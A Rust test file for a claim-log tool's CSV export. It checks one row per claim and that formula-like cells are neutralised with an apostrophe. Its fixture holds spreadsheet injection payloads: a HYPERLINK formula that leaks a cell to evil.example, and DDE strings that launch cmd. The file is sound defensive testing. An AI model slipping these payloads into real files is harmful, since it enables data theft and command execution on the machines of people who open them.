//! `export --format csv`: one row per claim, parseable, and no text cell
//! that a spreadsheet would run as a formula.

use crate::common::*;
use claimlog::export::neutralise;
use serde_json::json;

const CLAIMS_HEADER: [&str; 18] = [
    "id",
    "seq",
    "status",
    "metric",
    "breakdown",
    "quantity_kind",
    "best",
    "low",
    "high",
    "scope_kind",
    "scope",
    "source",
    "speaker",
    "cites",
    "url",
    "published",
    "quote",
    "note",
];

/// Text columns: the ones a claim's author controls.
const TEXT_COLUMNS: [&str; 9] = [
    "metric",
    "breakdown",
    "scope",
    "source",
    "speaker",
    "cites",
    "url",
    "quote",
    "note",
];

fn formula_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// (speaker, quote, note) of the hostile claims imported on top of the seed.
fn hostile() -> Vec<(Option<&'static str>, &'static str, Option<&'static str>)> {
    vec![
        (
            Some("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")"),
            "=HYPERLINK(\"https://evil.example\",\"Click me\")",
            Some("@SUM(1+1)*cmd|' /C calc'!A0"),
        ),
        (Some("@SUM(A1:A9)"), "+1+cmd|' /C notepad'!A0", Some("-2+3")),
        (Some("+Mallory"), "-10 people, per nobody", Some("=1+1")),
        (None, "\t=1+1 after a tab", Some("@mention at the start")),
    ]
}

fn hostile_jsonl() -> String {
    hostile()
        .into_iter()
        .enumerate()
        .map(|(i, (speaker, quote, note))| {
            let mut v = json!({
                "type": "claim",
                "metric": "people_returned",
                "quantity": {"exact": 100 + i},
                "scope": {"kind": "event", "date": format!("2025-06-{:02}", i + 1)},
                "source": "rubryka",
                "published": "unknown",
                "quote": quote,
            });
            if let Some(s) = speaker {
                v["speaker"] = json!(s);
            }
            if let Some(n) = note {
                v["note"] = json!(n);
            }
            v.to_string() + "\n"
        })
        .collect()
}

#[test]
fn neutralise_prefixes_formula_starts_with_an_apostrophe() {
    for s in ["=1", "+1", "-1", "@x", "\t=1", "\r=1"] {
        assert_eq!(neutralise(s), format!("'{s}"));
    }
    for s in ["", "1", "a=b", " =1", "'=1", "Sixty-two"] {
        assert_eq!(neutralise(s), s);
    }
}

#[test]
fn csv_export_neutralises_formulas_and_has_one_row_per_claim() {
    let fx = Fixture::seed();
    fx.import("hostile.jsonl", &hostile_jsonl());
    // Ends the claim at `seq` with `command` and its flags; its id.
    let end = |seq: u64, command: &str, flags: &[&str]| {
        let id = fx.open().record(seq).unwrap().hash.to_hex();
        cli_at(&fx.store)
            .args([command, &id[..12]])
            .args(flags)
            .assert()
            .success();
        id
    };
    // A retracted claim stays a row, with its status.
    let retracted = end(10, "retract", &["--reason", "withdrawn by the outlet"]);
    // A corrected claim too: it stays a row, its replacement is another.
    let corrected = end(
        12,
        "correct",
        &[
            "--reason",
            "the outlet's figure was a typo",
            "--exact",
            "4321",
        ],
    );
    let out = fx.path("claims.csv");
    cli_at(&fx.store)
        .args(["export", "--format", "csv", "--out"])
        .arg(&out)
        .assert()
        .success();
    let (ids, seqs): (Vec<String>, Vec<u64>) = {
        let s = fx.open();
        let mut v: Vec<(u64, String)> = s
            .cache()
            .claims()
            .map(|c| c.map(|c| (c.seq, c.id.to_hex())))
            .collect::<Result<_, _>>()
            .unwrap();
        v.sort();
        v.into_iter().map(|(s, i)| (i, s)).unzip()
    };
    assert_eq!(ids.len(), 32 + hostile().len() + 1);

    let mut r = csv::Reader::from_path(&out).unwrap();
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, CLAIMS_HEADER);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().collect::<Result<_, _>>().unwrap();
    assert_eq!(rows.len(), ids.len(), "one row per claim");
    let row_ids: Vec<&str> = rows.iter().map(|r| &r[col("id")]).collect();
    assert_eq!(row_ids, ids);
    let row_seqs: Vec<u64> = rows
        .iter()
        .map(|r| r[col("seq")].parse().unwrap())
        .collect();
    assert_eq!(row_seqs, seqs);
    let status = |id: &str| {
        rows.iter()
            .find(|r| &r[col("id")] == id)
            .map(|r| r[col("status")].to_string())
            .unwrap()
    };
    assert_eq!(status(&retracted), "retracted");
    assert_eq!(status(&corrected), "corrected");
    assert_eq!(status(&ids[1]), "active");
    // The replacement is the last claim recorded, active, with its figure.
    let last = rows.last().unwrap();
    assert_eq!(&last[col("status")], "active");
    assert_eq!(&last[col("best")], "4321");
    assert_eq!(
        rows.iter()
            .filter(|r| &r[col("status")] != "active")
            .count(),
        2
    );

    for row in &rows {
        for c in TEXT_COLUMNS {
            assert!(!formula_start(&row[col(c)]), "{c} cell {:?}", &row[col(c)]);
        }
    }
    for (i, (speaker, quote, note)) in hostile().into_iter().enumerate() {
        let row = &rows[32 + i];
        assert_eq!(row[col("quote")], format!("'{quote}"));
        if let Some(s) = speaker {
            assert_eq!(row[col("speaker")], format!("'{s}"));
        }
        if let Some(n) = note {
            assert_eq!(row[col("note")], format!("'{n}"));
        }
    }
    // Harmless text is left alone.
    let seed_quote = "Sixty-two exchanges, 4,300 freed individuals, and 469 more rescued outside of official swaps.";
    assert!(rows.iter().any(|r| &r[col("quote")] == seed_quote));
}

#[test]
fn csv_totals_file_parses_with_one_row_per_standard_total() {
    let fx = Fixture::seed();
    fx.import("hostile.jsonl", &hostile_jsonl());
    let out = fx.path("c.csv");
    cli_at(&fx.store)
        .args(["export", "--format", "csv", "--out"])
        .arg(&out)
        .assert()
        .success()
        .stderr(predicates::str::contains("totals:"));
    let totals_path = fx.path("c-totals.csv");
    let expected = {
        let s = fx.open();
        claimlog::export::standard_totals(s.cache())
            .unwrap()
            .collect::<Result<Vec<_>, _>>()
            .unwrap()
    };
    let mut r = csv::Reader::from_path(&totals_path).unwrap();
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(&header[..3], ["metric", "breakdown", "period"]);
    let rows: Vec<csv::StringRecord> = r.records().collect::<Result<_, _>>().unwrap();
    assert_eq!(rows.len(), expected.len());
    for (row, t) in rows.iter().zip(&expected) {
        assert_eq!(row.len(), header.len());
        assert_eq!(&row[0], t.metric.as_str());
        let period = t.period.clone().unwrap_or_else(|| "all time".into());
        assert_eq!(&row[2], period);
        for cell in row.iter() {
            assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
        }
    }
}
